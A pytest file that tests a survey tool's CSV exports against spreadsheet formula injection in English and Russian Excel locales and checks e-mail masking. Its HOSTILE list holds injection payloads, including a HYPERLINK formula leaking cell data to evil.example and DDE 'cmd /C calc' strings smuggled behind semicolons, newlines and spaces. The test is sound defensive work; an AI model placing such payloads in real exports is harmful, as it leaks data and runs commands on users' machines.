"""No cell of either CSV export can start a formula, in either locale, and e-mails are masked
(issue 23 point 11, issue 22 point 8).

Russian Excel splits a line at `;` (its list separator), quoted or not: a comment
«ок; =HYPERLINK(...)» became a cell `=HYPERLINK(...)` of its own. Each export is read here as
English Excel reads it (`,`) and as Russian Excel does (`;`), and every cell is checked.
`python -m bridge.admin export` neutralised nothing and showed typed e-mails before.
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy.engine import Engine

from harness.app import running_app
from harness.vendors import make_settings, seeded_vendors
from storage.tables import SurveyState
from tests.admin.cli import WHEN, admin, seed
from tests.report.conftest import ADMIN_TOKEN, BEARER

pytestmark = pytest.mark.anyio
HOSTILE = [
    'ок; =HYPERLINK("http://evil.example/?"&A1;"жми")',
    "=cmd|' /C calc'!A0",
    "всё хорошо;=cmd|' /C calc'!A0",
    "x;\"@SUM(1+1)*cmd|'/C calc'!A0\"",
    "строка\n+1+1",
    "табуляция\t-2+3",
    "  =1+1",
    "пишите на ivan.petrov@acme.example",
]
FORMULA = ("=", "+", "-", "@")


def _seed(engine: Engine) -> None:
    for n, text in enumerate(HOSTILE):
        seed(
            engine,
            700 + n,
            SurveyState.RATED,
            score=2,
            reply_text=text,
            engineer=text,
            company_name=text,
            answered_at=WHEN,
        )


def _cells(text: str) -> list[str]:
    """Every cell, as English (`,`) and Russian (`;`) Excel would split the text."""
    return [
        cell
        for delimiter in ",;"
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
        for cell in row
    ]


def _assert_safe(text: str) -> None:
    # Excel skips leading spaces and quotes before it reads a formula's `=`.
    starts = [cell for cell in _cells(text) if cell.lstrip(' \t\r\n"').startswith(FORMULA)]
    assert starts == []
    assert "ivan.petrov@acme.example" not in text
    assert "HYPERLINK" in text  # the words are kept, only disarmed


async def test_the_report_page_export_is_safe_in_either_locale(
    database_url: str, engine: Engine
) -> None:
    _seed(engine)
    settings = make_settings(database_url, admin_token=ADMIN_TOKEN, worker_enabled=False)
    async with running_app(settings, seeded_vendors()) as app:
        day = WHEN.date().isoformat()
        answer = await app.client.get(f"/admin/export.csv?from={day}&to={day}", headers=BEARER)
    assert answer.status_code == 200
    _assert_safe(answer.text)


def test_the_command_line_export_is_safe_in_either_locale(
    database_url: str, engine: Engine
) -> None:
    _seed(engine)
    ran = admin(make_settings(database_url), "export")
    assert ran.code == 0
    _assert_safe(ran.out)
